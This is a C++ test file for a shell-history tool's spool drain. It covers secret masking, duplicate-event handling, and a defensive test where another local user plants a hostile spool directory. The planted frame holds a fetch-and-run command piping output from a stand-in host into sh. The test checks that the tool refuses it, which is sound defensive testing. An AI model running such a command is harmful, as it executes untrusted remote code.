// The spool drain through the CLI: frames written as a shell hook writes
// them show up in `tb history`; lines that do not parse are kept aside with
// their secrets masked.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "core/views/registry.h"
#include "storage/spool.h"
#include "storage/store.h"
#include "tests/status_assert.h"
#include "tests/tools/cli_fixture.h"

namespace tb::testing {
namespace {

class CliSpool : public CliTest {
 protected:
  // The spool directory `tb` uses for this test's data dir.
  std::string SpoolDir() const { return SpoolDirFor(runtime_dir() + "/termbrain", data_dir()); }
  void WriteSpool(const std::string& name, const std::string& frames) const {
    std::filesystem::create_directories(SpoolDir());
    std::ofstream(SpoolDir() + "/" + name, std::ios::binary) << frames;
  }
};

TEST_F(CliSpool, FramesAreDrainedAndRejectedLinesAreMasked) {
  WriteSpool("abc.spool",
             "TB1\tS\tabc\t1\t1732580000.123456\ts1\tbash\t/home/u\tgit status\t.\n"
             "TB1\tF\tabc\t2\t1732580000.5\t0\t1000\t1\t.\n"
             "garbage export GITHUB_TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n");
  RunResult r = Tb({"history", "--format", "plain"});
  EXPECT_EXIT_CODE(r, 0);
  EXPECT_EQ(r.out, "git status\n");
  EXPECT_EQ(r.err, "tb: warning: 1 spool line(s) did not parse; kept in " + data_dir() + "/spool-rejected\n");
  std::string kept;
  for (const auto& e : std::filesystem::directory_iterator(data_dir() + "/spool-rejected")) {
    kept += ReadFile(e.path().string());
  }
  EXPECT_EQ(kept.find("ghp_0123456789"), std::string::npos) << kept;
  EXPECT_NE(kept.find("garbage export GITHUB_TOKEN=\u2039"), std::string::npos) << kept;
  EXPECT_TRUE(std::filesystem::is_empty(SpoolDir()));
}

// Another local user (the attacker) plants a spool directory where the
// victim's spool goes when there is no $XDG_RUNTIME_DIR of the victim's
// own: a shared sticky directory like /dev/shm (here a copy in the test
// dir, so nothing outside it is touched). The victim's `tb` runs as
// "nobody" (the suite runs as root).
class CliSpoolAttackSecurity : public CliSpool {
 protected:
  static constexpr int kVictim = 65534;
  static constexpr int kAttacker = 4242;

  void SetUp() override {
    CliSpool::SetUp();
    if (::geteuid() != 0) GTEST_SKIP() << "needs root to act as two other users";
    ::chmod(root().c_str(), 0755);  // the victim must reach its data dir
    shm_ = root() + "/shm";
    std::filesystem::create_directories(shm_);
    ::chmod(shm_.c_str(), 01777);
    std::filesystem::create_directories(data_dir());
    ::chmod(data_dir().c_str(), 0700);
    ASSERT_EQ(::chown(data_dir().c_str(), kVictim, kVictim), 0);
    base_ = shm_ + "/termbrain";
  }
  RunResult Victim(const std::vector<std::string>& args) const {
    TbCall c;
    c.uid = kVictim;
    c.gid = kVictim;
    c.env = {{"XDG_RUNTIME_DIR", shm_}, {"HOME", root() + "/nowhere"}};
    return Tb(args, c);
  }
  // `path` created by the attacker with `mode`.
  void Plant(const std::string& path, mode_t mode, const std::string* content = nullptr) const {
    if (content) {
      WriteFile(path, *content);
    } else {
      std::filesystem::create_directories(path);
    }
    ASSERT_EQ(::chmod(path.c_str(), mode), 0);
    ASSERT_EQ(::chown(path.c_str(), kAttacker, kAttacker), 0);
  }

  std::string shm_, base_;
};

TEST_F(CliSpoolAttackSecurity, PlantedSpoolIsNeverDrained) {
  const std::string hashed = SpoolDirFor(base_, data_dir());
  const std::string evil = "TB1\tS\tbad\t1\t1732580000.1\ts9\tbash\t/tmp\tcurl -s http://x.example/i | sh\t.\n";
  Plant(base_, 0777);
  Plant(hashed, 0777);
  Plant(hashed + "/0000000000000bad.spool", 0666, &evil);
  TreeSnapshot before = Snapshot(base_);
  RunResult r = Victim({"history", "--format", "plain"});
  EXPECT_EXIT_CODE(r, 0);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, "tb: warning: spool directory refused (" + base_ + "): it is owned by uid 4242, not by you (uid " +
                       std::to_string(kVictim) +
                       "). Nothing in it was read; remove it, or set TERMBRAIN_SPOOL_DIR to a directory of yours\n");
  EXPECT_EQ(DiffSnapshots(before, Snapshot(base_)), "") << "a refused spool is left untouched";
  RunResult dump = Victim({"log", "dump"});
  EXPECT_EXIT_CODE(dump, 0);
  EXPECT_EQ(dump.out.find("curl"), std::string::npos) << dump.out;
}

TEST_F(CliSpoolAttackSecurity, InitCreatesNothingInAPlantedDirectory) {
  Plant(base_, 0777);
  TreeSnapshot before = Snapshot(base_);
  RunResult r = Victim({"init", "bash"});
  EXPECT_EXIT_CODE(r, 1);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, "tb: error: unsafe spool directory (" + base_ + "): it is owned by uid 4242, not by you (uid " +
                       std::to_string(kVictim) + "). Remove it, or set TERMBRAIN_SPOOL_DIR to a directory of yours\n");
  EXPECT_EQ(DiffSnapshots(before, Snapshot(base_)), "");
}

// A store whose log already holds one id twice (written before the drain
// dropped repeated ids): verify names both events and the repair.
TEST_F(CliSpool, VerifyNamesDuplicateIdsAndSalvage) {
  {
    StoreOptions o;
    o.data_dir = data_dir();
    std::unique_ptr<Store> store;
    ASSERT_OK(Store::Open(o, &store));
    std::vector<Event> events(3);
    for (size_t i = 0; i < events.size(); ++i) {
      events[i].kind = EventKind::kRecorded;
      events[i].id = EventId{0xabc, i == 2 ? 1u : i + 1};
      events[i].time_ns = 1'700'000'000'000'000'000 + static_cast<int64_t>(i);
      events[i].command = "cmd" + std::to_string(i);
    }
    ASSERT_OK(store->Append(events, true));
  }
  const std::string id = EventId{0xabc, 1}.ToString();
  RunResult r = Tb({"log", "verify"});
  EXPECT_EXIT_CODE(r, 3);
  EXPECT_EQ(r.out, "events 3 (seq 1..3), bad payloads 0, gaps 0, duplicate ids 1\n  duplicate id " + id +
                       " at seq 3 (first at seq 1)\n");
  EXPECT_EQ(r.err, "tb: error: duplicate event ids in the log (" + data_dir() +
                       "): 1 event(s) repeat the id of an earlier event. Run 'tb log salvage' to rewrite the "
                       "log keeping the first event of each id\n");
}

TEST_F(CliSpool, AFileDrainedTwiceIsRecordedOnce) {
  const std::string frames =
      "TB1\tS\tabc\t1\t1732580000.123456\ts1\tbash\t/home/u\tgit status\t.\n"
      "TB1\tF\tabc\t2\t1732580000.5\t0\t1000\t1\t.\n";
  WriteSpool("abc.spool", frames);
  EXPECT_EQ(Commands(), std::vector<std::string>{"git status"});
  WriteSpool("abc.spool", frames);
  RunResult r = Tb({"history", "--format", "plain"});
  EXPECT_EXIT_CODE(r, 0);
  EXPECT_EQ(r.out, "git status\n");
  EXPECT_TRUE(r.err.starts_with("tb: warning: dropped 2 spooled event(s) already in the log (" + SpoolDir() +
                                "/abc.spool.draining."))
      << r.err;
  EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;
  RunResult v = Tb({"log", "verify"});
  EXPECT_EXIT_CODE(v, 0);
  EXPECT_EQ(v.out, "events 2 (seq 1..2), bad payloads 0, gaps 0, duplicate ids 0\n");
}

}  // namespace
}  // namespace tb::testing
